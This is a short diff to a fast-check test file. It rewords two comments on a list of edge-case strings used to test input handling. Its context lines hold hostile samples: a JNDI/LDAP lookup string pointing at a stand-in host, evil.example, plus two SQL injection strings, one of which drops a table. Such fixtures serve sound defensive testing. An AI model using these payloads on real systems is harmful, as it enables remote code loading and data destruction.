@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 
-/** Text that breaks out of what it is put into: lines, quotes, terminals, pages, queries, objects. */
+/** Text that may escape from its context: a line, a quotation, a terminal, a page, a query or an object. */
 const known = [
   '',
   ' ',
@@ -16,7 +16,7 @@ const known = [
   '\ud800',
   'x\udfff',
   '\ufeff',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless logger would expand.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers expand it.
   '${jndi:ldap://evil.example/a}',
   '"; drop table session_audit; --',
   "' or '1'='1",
